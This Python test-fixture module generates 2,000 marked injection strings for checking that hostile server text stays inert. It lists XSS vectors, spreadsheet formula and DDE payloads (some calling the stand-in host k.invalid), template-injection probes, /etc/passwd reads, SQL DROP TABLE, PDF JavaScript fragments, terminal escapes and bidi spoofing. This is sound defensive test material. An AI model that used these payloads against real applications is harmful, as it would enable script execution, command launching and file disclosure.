"""Two thousand strings that a hostile server or inventory could say, and that must stay inert text.

Each is made of a vector (what would act) and a way out of the text it is put into (a quote, the end of an
element, a line end), and holds a mark of its own, ``k`` with its number in four digits, within its first 64
characters, so that a test can find it again wherever it was printed. A string that runs as JavaScript
calls ``canary(number)``: a test defines it and looks whether it was called. An element that is made of one
is called ``x-k0017`` or holds an attribute ``data-k0017``. No string names a host that exists.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from enum import StrEnum
from itertools import islice
from typing import Final

from dosimeter.model.text import MAX_SERVER_TEXT

NUMBER: Final = 2000


class Kind(StrEnum):
    """What the string is written for."""

    HTML = "html"
    ATTRIBUTE = "attribute"
    SVG = "svg"
    CSS = "css"
    SCRIPT = "script"
    FORMULA = "formula"
    TERMINAL = "terminal"
    TYPST = "typst"
    BIDI = "bidi"
    TEMPLATE = "template"
    LINE = "line"


@dataclass(frozen=True, slots=True)
class Injection:
    """One string, its number from 0, and the mark by which it is found."""

    number: int
    kind: Kind
    mark: str
    text: str


# In every vector, § stands for the mark and ¤ for the number. What acts comes first: fields are cut at 64.
_VECTORS: Final[dict[Kind, tuple[str, ...]]] = {
    Kind.HTML: (
        "<script>canary(¤)</script>§",
        "<ScRiPt>canary(¤)</sCrIpT>§",
        "<script/x>canary(¤)//§",
        "<img src=x onerror=canary(¤)>§",
        "<image src=x onerror=canary(¤)>§",
        "<x-§ onclick=canary(¤)>§</x-§>",
        "<iframe srcdoc='<script>parent.canary(¤)</script>'>§",
        "<iframe src=javascript:parent.canary(¤)>§",
        "<object data=javascript:canary(¤)>§",
        "<embed src=javascript:canary(¤)>§",
        "<base href=//k.invalid/>§",
        "<meta http-equiv=refresh content=0;url=//k.invalid>§",
        "<link rel=stylesheet href=//k.invalid/§.css>",
        "<form action=//k.invalid><input name=§>",
        "<details open ontoggle=canary(¤)>§",
        "<input autofocus onfocus=canary(¤)>§",
        "<video><source onerror=canary(¤)>§</video>",
        "<body onload=canary(¤)>§",
        "<marquee onstart=canary(¤)>§",
        "<a href=javascript:canary(¤)>§</a>",
        "<table><tr><td><x-§>§",
        "<template><x-§></x-§></template>",
        "<noscript><p title='</noscript><x-§>'>§",
        "<textarea><x-§></textarea>§",
        "<math><mtext><x-§ onclick=canary(¤)>§",
        "<!--><x-§>-->§",
        "<![CDATA[<x-§>]]>§",
        "<?php § ?><x-§>",
        "&lt;x-§&gt;&#60;x-§&#62;",
        "<\x00script>canary(¤)</script>§",
        "<dialog open>§</dialog>",
        "<style>*{display:none}</style>§",
    ),
    Kind.ATTRIBUTE: (
        " onmouseover=canary(¤) data-§=1 ",
        " autofocus onfocus=canary(¤) tabindex=0 data-§ ",
        " style=position:fixed;inset:0 data-§ ",
        " href=javascript:canary(¤) data-§ ",
        " srcset=//k.invalid/§ data-§ ",
        " id=archives class=chip data-§ ",
        " aria-hidden=true hidden data-§ ",
        "/onclick=canary(¤)/data-§/",
    ),
    Kind.SVG: (
        "<svg onload=canary(¤)>§",
        "<svg><script>canary(¤)</script>§</svg>",
        "<svg><script href=data:,canary(¤)>§",
        "<svg><animate onbegin=canary(¤) attributeName=x>§",
        "<svg><set attributeName=href to=javascript:canary(¤)>§",
        "<svg><a xlink:href=javascript:canary(¤)><text>§",
        "<svg><use href=//k.invalid/§.svg#a>",
        "<svg><image href=//k.invalid/§.png>",
        "<svg><foreignObject><x-§>§",
        "</text></svg><x-§>§",
        "</title><x-§>§",
        "</desc><script>canary(¤)</script>§",
        "<svg><style>@import'//k.invalid/§';</style>",
    ),
    Kind.CSS: (
        "</style><x-§>§",
        "}*{background:url(//k.invalid/§)}",
        "@import '//k.invalid/§.css';",
        ";background:url(javascript:canary(¤));§",
        "expression(canary(¤))§",
        "@font-face{src:url(//k.invalid/§)}",
        ":root{--ink:transparent}/*§*/",
        "\\3c x-§\\3e §",
    ),
    Kind.SCRIPT: (
        "javascript:canary(¤)//§",
        "JaVaScRiPt:canary(¤)//§",
        "java\tscript:canary(¤)//§",
        "data:text/html,<script>parent.canary(¤)</script>§",
        ";canary(¤);//§",
        "-canary(¤)-§",
        "</script><script>canary(¤)</script>§",
        "${canary(¤)}§",
        "\\u003cscript\\u003ecanary(¤)\\u003c/script\\u003e§",
        "__proto__[canary]=¤§",
        "constructor.constructor('canary(¤)')()§",
        "*/canary(¤)/*§",
        '\\";canary(¤);//§',
    ),
    Kind.FORMULA: (
        '=HYPERLINK("//k.invalid/§","§")',
        "=1+1+cmd|'/C calc'!§",
        "+1+1-§",
        "-1+1-§",
        '@SUM(1,1)&"§"',
        '=WEBSERVICE("//k.invalid/§")',
        '=IMPORTXML("//k.invalid","§")',
        '=DDE("cmd";"/C calc";"§")',
        '\t=1+1&"§"',
        '\r=1+1&"§"',
        '\n=1+1&"§"',
        '\uff1d1+1&"§"',
        "%0A=1+1&§",
        '";=1+1;"§',
        ",=1+1,§",
        ' =1+1&"§"',
    ),
    Kind.TERMINAL: (
        "\x1b[2J\x1b[1;1H§",
        "\x1b]0;§\x07",
        "\x1b]8;;//k.invalid/§\x1b\\§\x1b]8;;\x1b\\",
        "\x1b]52;c;QA==\x07§",
        "\x1b[31;5m§",
        "\x1bP+q544e\x1b\\§",
        "\x1b[6n§",
        "\x1b[?1049h§",
        "\x1bc§",
        "\x9b2J§",
        "\x9d0;§\x9c",
        "\x90q§\x9c",
        "\x07\x08\x08\x08§",
        "\r\x1b[K§",
        "\x0e§\x0f",
        "\x7f\x7f§",
        "[bold red]§[/]",
        "[link=//k.invalid]§[/link]",
        ":skull: §",
    ),
    Kind.TYPST: (
        '#eval("1+1") §',
        '#read("/etc/passwd") §',
        '#include "§.typ"',
        '#image("§.png")',
        '#import "§k/x:1.0.0": *',
        "#set page(width: 1pt) §",
        '#panic("§")',
        "#{while true {}} §",
        "$ sum_(k=1)^2 § $",
        "] #strike[§",
        "*§* _§_ `§`",
        "= §",
        "<§> @§",
        "\\u{202e}§",
        "/* § // §",
        "(/S /JavaScript /JS (app.alert\\(#\\))) §",
        ") Tj ET /Launch § BT (",
        "endstream endobj § 0 obj",
        "\\input{/etc/passwd}§",
    ),
    Kind.BIDI: (
        "\u202e§gnp.exe",
        "\u202d§\u202c",
        "\u2066§\u2069",
        "\u2067\u2068§",
        "\u200b§\u200b",
        "\u200d§\u200c",
        "\ufeff§",
        "\u061c§",
        "\u200f§\u200e",
        "\u00ad§",
        "\u2028§\u2029",
        "\ud800§",
        "\ue000§",
        "\U000e0001§",
        "p\u0430yp\u0430l§",
        "e\u0301\u0301\u0301\u0301§",
        "\uff1cx-§\uff1e",
        "\u2039script\u203a§",
        "\ufffe§\uffff",
        "\u115f§\u3164",
    ),
    Kind.TEMPLATE: (
        "{{ 7 * 7 }}§",
        "{{ cycler.__init__.__globals__ }}§",
        "{% raw %}§",
        "{% include '/etc/passwd' %}§",
        "{# § #}",
        "{0.__class__}§",
        "{number}{studies}{only}§",
        "{first}, {second}§",
        "%(message)s%s%n§",
        "%c%d%x§",
        "${7*7}§",
        "#{7*7}§",
        "<%= 7*7 %>§",
        "$(id)`id`§",
        "'; DROP TABLE facts; --§",
        "\\N{BULLET}\\x41§",
        "{§",
        "}§{",
    ),
    Kind.LINE: (
        '\r\n{"type": "totals", "k": "§"}',
        "\nlevel=error msg=§",
        "\x0b§\x0c",
        "\x85§",
        "\x1e§\x1f",
        'dosimeter_up{k="§"} 1',
        '"} 1\ndosimeter_up{k="§"} 2\n',
        "§\\",
        "§\\n",
        "..\\..\\§",
        "../../§",
        "\0§",
        "",
    ),
}

_WAYS_OUT: Final = ("", '"', "'", "`", ">", '">', "'>", "-->", "]]>", "</td>", "</summary>", "&quot;>")


def injections(number: int = NUMBER) -> tuple[Injection, ...]:
    """The first ``number`` strings: always the same ones, every kind among any two hundred."""
    made = tuple(islice(_numbered(), number))
    if len(made) < number:
        raise ValueError(f"there are {len(made)} strings and no more")
    return made


def _numbered() -> Iterator[Injection]:
    place = 0
    for kind, way_out, vector in _patterns():
        mark = f"k{place:04d}"
        text = way_out + vector.replace("§", mark).replace("¤", str(place))
        text = text if mark in text else f"{text}{mark}"
        if mark in text[:MAX_SERVER_TEXT]:
            yield Injection(place, kind, mark, text)
            place += 1


def _patterns() -> Iterator[tuple[Kind, str, str]]:
    """Every vector bare, then after each way out of a text."""
    for way_out in _WAYS_OUT:
        for kind, vectors in _VECTORS.items():
            for vector in vectors:
                yield kind, way_out, vector
